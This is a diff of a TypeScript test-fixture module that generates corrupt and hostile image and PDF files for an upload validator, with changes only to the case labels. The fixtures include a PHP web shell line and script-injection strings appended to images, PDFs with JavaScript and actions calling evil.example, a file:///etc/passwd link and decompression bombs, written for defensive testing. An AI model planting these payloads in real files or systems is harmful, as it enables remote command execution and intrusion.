@@ -49,22 +49,24 @@ export async function createBrokenPictures(): Promise<BrokenFiles> {
     'a JPEG whose segment is longer than the file': damaged(
       overwriteBytes(jpeg, '\u00ff\u00db', 2, [0xff, 0xff]).subarray(0, 900),
     ),
-    'a PNG of a signature alone': damaged(joinPng()),
+    'a PNG with only a signature': damaged(joinPng()),
     'a PNG cut behind its header': damaged(png.subarray(0, 33)),
     'a PNG cut in the middle': cut(png, 0.5),
     'a PNG without its end': damaged(png.subarray(0, -12)),
     'a PNG with its middle missing': damaged(
       joinPng(pngHeader(400, 300), pngChunk('IDAT', latin1('x\u009c')), pngChunk('IEND')),
     ),
-    'a PNG whose pixels do not match their sum': damaged(overwriteBytes(png, 'IDAT', 500, [1, 2, 3, 4, 5, 6, 7, 8])),
+    'a PNG whose pixels do not match their checksum': damaged(
+      overwriteBytes(png, 'IDAT', 500, [1, 2, 3, 4, 5, 6, 7, 8]),
+    ),
     'a PNG without width': damaged(joinPng(pngHeader(0, 300), pngChunk('IDAT'), pngChunk('IEND'))),
     'a PNG that is an SVG': damaged(Buffer.concat([joinPng(), latin1('<svg xmlns="http://www.w3.org/2000/svg"/>')])),
-    'a WebP of a header alone': damaged(webp.subarray(0, 12)),
+    'a WebP with only a header': damaged(webp.subarray(0, 12)),
     'a WebP cut in the middle': cut(webp, 0.5),
     'a WebP that lacks its last bytes': damaged(webp.subarray(0, -10)),
-    'a WebP cut within its notes': damaged(withMetadata.subarray(0, -8)),
+    'a WebP cut within its metadata': damaged(withMetadata.subarray(0, -8)),
     'a WebP of an unknown kind': damaged(overwriteBytes(webp, 'VP8 ', 0, [0x58, 0x58, 0x58, 0x58])),
-    'a WebP whose picture is rubbish': damaged(
+    'a WebP whose pixels are invalid': damaged(
       overwriteBytes(
         webp,
         'VP8 ',
@@ -74,11 +76,9 @@ export async function createBrokenPictures(): Promise<BrokenFiles> {
     ),
     'a PNG of 256 megapixels in 31 KB': huge(blackPng(16_000, 16_000)),
     'a PNG one line above the limit': huge(blackPng(8000, 5001)),
-    'a PNG that says it has four gigapixels': huge(
-      joinPng(pngHeader(65_535, 65_535), pngChunk('IDAT'), pngChunk('IEND')),
-    ),
-    'a JPEG that says it has four gigapixels': huge(overwriteBytes(jpeg, '\u00ff\u00c0', 5, [0xff, 0xdc, 0xff, 0xdc])),
-    'a WebP that says it has 268 megapixels': huge(
+    'a PNG that claims four gigapixels': huge(joinPng(pngHeader(65_535, 65_535), pngChunk('IDAT'), pngChunk('IEND'))),
+    'a JPEG that claims four gigapixels': huge(overwriteBytes(jpeg, '\u00ff\u00c0', 5, [0xff, 0xdc, 0xff, 0xdc])),
+    'a WebP that claims 268 megapixels': huge(
       overwriteBytes(webp, Buffer.from([0x9d, 0x01, 0x2a]), 3, [0xff, 0x3f, 0xff, 0x3f]),
     ),
     'an animated WebP': [animated, 'file-animated'],
@@ -102,7 +102,7 @@ export async function createPolyglots(): Promise<BrokenFiles> {
     'a WebP and a ZIP': appendTo(webp, createZip()),
     'a PDF and a ZIP': appendTo(createPdf(), createZip()),
     'a JPEG and a page': appendTo(jpeg, '<html><script>alert(1)</script>'),
-    'a JPEG and a drawing': appendTo(jpeg, '  <SVG onload=alert(1)>'),
+    'a JPEG and an SVG': appendTo(jpeg, '  <SVG onload=alert(1)>'),
     'a PNG and a script': appendTo(png, 'x<script src=//evil>'),
     'a WebP and PHP': appendTo(webp, '<?php system($_GET[0]); ?>'),
     'a JPEG and a frame': appendTo(jpeg, '\n<iframe src="javascript:1">'),
@@ -127,10 +127,10 @@ export function createBrokenPdfs(): BrokenFiles {
   const broken: [string, Buffer] = ['/Filter /FlateDecode', latin1('x\u009c' + '\u00ff'.repeat(50))]
   const pictureBomb = deflated('/Type /XObject /Subtype /Image', Buffer.alloc(40 * 1024 * 1024))
   return {
-    'a PDF of a header alone': damaged(latin1('%PDF-1.7\n')),
+    'a PDF with only a header': damaged(latin1('%PDF-1.7\n')),
     'a PDF cut in the middle': damaged(whole.subarray(0, whole.length / 2)),
     'a PDF cut before its end': damaged(whole.subarray(0, -8)),
-    'a PDF that does not say where its table is': damaged(
+    'a PDF without the position of its table': damaged(
       latin1(whole.toString('latin1').replace('startxref', 'startxxxx')),
     ),
     'a PDF whose table is elsewhere': damaged(
@@ -139,20 +139,20 @@ export function createBrokenPdfs(): BrokenFiles {
     'a PDF with its middle missing': damaged(Buffer.concat([whole.subarray(0, 100), whole.subarray(-60)])),
     'a PDF of version 9': damaged(latin1(whole.toString('latin1').replace('%PDF-1.7', '%PDF-9.7'))),
     'a PDF with a page behind it': damaged(Buffer.concat([whole, latin1('<html><script>')])),
-    'a PDF that wants a password': [
+    'a PDF that needs a password': [
       createPdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard /V 2 >>'] }),
       'file-encrypted',
     ],
-    'a PDF that wants a password in other letters': [
+    'a PDF that needs a password, by an escaped name': [
       createPdf({ trailer: '/Encr#79pt 5 0 R', objects: ['<< /V 2 >>'] }),
       'file-encrypted',
     ],
-    'a PDF with a script at its opening': acting('<< /S /JavaScript /JS (app.alert(1)) >>'),
-    'a PDF with a script in other letters': acting('<< /S /J#61va#53cript /JS (app.alert(1)) >>'),
+    'a PDF that runs a script when opened': acting('<< /S /JavaScript /JS (app.alert(1)) >>'),
+    'a PDF with a script under an escaped name': acting('<< /S /J#61va#53cript /JS (app.alert(1)) >>'),
     'a PDF with a script by name': active(
       createPdf({ catalogue: '/Names << /JavaScript 5 0 R >>', objects: ['<< >>'] }),
     ),
-    'a PDF with an article of another computer': acting('<< /S /Thread /F 6 0 R /D 0 >>'),
+    'a PDF with an article in another file': acting('<< /S /Thread /F 6 0 R /D 0 >>'),
     ...Object.fromEntries(
       [
         '<< /X (7 0 obj) /S /URI /URI (https://evil.example) >>',
@@ -173,19 +173,19 @@ export function createBrokenPdfs(): BrokenFiles {
     'a PDF with files by name': active(
       createPdf({ catalogue: '/Names << /EmbeddedFiles 5 0 R >>', objects: ['<< >>'] }),
     ),
-    'a PDF with a film': active(createPdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] })),
-    'a PDF that plays': acting('<< /S /Rendition /OP 0 >>'),
-    'a PDF that opens another in it': acting('<< /S /GoToE /T << /R /C >> >>'),
-    'a PDF that opens another beside it': acting('<< /S /GoToR /F (next.pdf) /D [0 /Fit] >>'),
-    'a PDF that opens a page of the web by itself': acting('<< /S /URI /URI (https://evil.example) >>'),
-    'a PDF that opens a page of the web right away': active(
+    'a PDF with a video': active(createPdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] })),
+    'a PDF that plays media': acting('<< /S /Rendition /OP 0 >>'),
+    'a PDF that opens an embedded one': acting('<< /S /GoToE /T << /R /C >> >>'),
+    'a PDF that opens another file': acting('<< /S /GoToR /F (next.pdf) /D [0 /Fit] >>'),
+    'a PDF that opens a web page by itself': acting('<< /S /URI /URI (https://evil.example) >>'),
+    'a PDF that opens a web page right away': active(
       createPdf({ catalogue: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
     ),
-    'a PDF that opens a page of the web after another action': acting('<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>'),
+    'a PDF that opens a web page after another action': acting('<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>'),
     'a PDF that does something when its page is shown': active(
       createPdf({ catalogue: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' }),
     ),
-    'a PDF of compressed objects that opens a page of the web by itself': active(
+    'a PDF of compressed objects that opens a web page by itself': active(
       createCompressedPdf('/OpenAction 2 0 R', '/A << /S /URI /URI (https://evil.example) >>'),
     ),
     ...Object.fromEntries(
@@ -194,12 +194,12 @@ export function createBrokenPdfs(): BrokenFiles {
         active(createPdf({ objects: [`<< /Subtype /Link /A << /S /URI /URI ${link} >> >>`, '(file:///etc/passwd)'] })),
       ]),
     ),
-    'a PDF with a stream of another computer': active(
+    'a PDF with a stream in a file of another computer': active(
       createPdf({ objects: [['/F (\\\\\\\\evil.example\\\\a)', latin1('x')]] }),
     ),
     'a PDF that sends a form': acting('<< /S /SubmitForm /F (https://evil.example) >>'),
     'a PDF that reads a file': acting('<< /S /ImportData /F (c.fdf) >>'),
-    'a PDF with a form of XML': active(createPdf({ catalogue: '/AcroForm << /XFA 5 0 R >>', objects: ['<< >>'] })),
+    'a PDF with an XML form': active(createPdf({ catalogue: '/AcroForm << /XFA 5 0 R >>', objects: ['<< >>'] })),
     'a PDF with a script among compressed objects': active(
       createCompressedPdf('/OpenAction << /S /JavaScript /JS (1) >>'),
     ),
@@ -210,12 +210,10 @@ export function createBrokenPdfs(): BrokenFiles {
       createPdf({ objects: [['/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', hex]] }),
     ),
     ...hiddenObjects(hex),
-    'a PDF with a stream that becomes too much': damaged(createPdf({ objects: [bomb] })),
-    'a PDF with more streams than anybody writes': damaged(
-      createPdf({ objects: [['', latin1('stream\n'.repeat(20_001))]] }),
-    ),
+    'a PDF with a stream that decompresses to too much': damaged(createPdf({ objects: [bomb] })),
+    'a PDF with too many streams': damaged(createPdf({ objects: [['', latin1('stream\n'.repeat(20_001))]] })),
     'a PDF with broken streams': damaged(createPdf({ objects: Array.from({ length: 17 }, () => broken) })),
-    'a PDF with twenty pictures that become too much': damaged(
+    'a PDF with twenty pictures that decompress to too much': damaged(
       createPdf({ objects: Array.from({ length: 20 }, () => pictureBomb) }),
     ),
   }
@@ -259,7 +257,7 @@ function hiddenObjects(hex: Buffer): BrokenFiles {
       `/Type /ObjStm /Filter /ASCIIHexDecode /Pad (${'A'.repeat(5000)})`,
       hex,
     ),
-    'a PDF with objects behind words that look like a beginning': hidden(
+    'a PDF with objects behind text that looks like an object header': hidden(
       '/Type /ObjStm /Filter /ASCIIHexDecode /Pad (1 0 obj) /obj % 1 0 obj\n',
       hex,
     ),
@@ -267,13 +265,13 @@ function hiddenObjects(hex: Buffer): BrokenFiles {
       '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>',
       deflateSync(behindNothing),
     ),
-    'a PDF with objects that are packed twice': hidden(
+    'a PDF with objects that are compressed twice': hidden(
       '/Type /ObjStm /Filter [/FlateDecode /FlateDecode]',
       deflateSync(deflateSync(script)),
     ),
-    'a PDF with objects that call themselves nothing': hidden('/Type 9 0 R /Filter /ASCIIHexDecode', hex),
-    'a PDF with objects in other words': hidden('/Type /ObjStm /F /AHx', hex),
-    'a PDF with objects behind half a string': active(
+    'a PDF with objects whose type is a reference': hidden('/Type 9 0 R /Filter /ASCIIHexDecode', hex),
+    'a PDF with objects and abbreviated filter names': hidden('/Type /ObjStm /F /AHx', hex),
+    'a PDF with objects behind an open string': active(
       createPdf({ objects: ['( ', [`/N 1 /First 4 /Filter /ASCIIHexDecode % )\n`, hex]] }),
     ),
     'a PDF with objects behind a bracket in a comment': active(
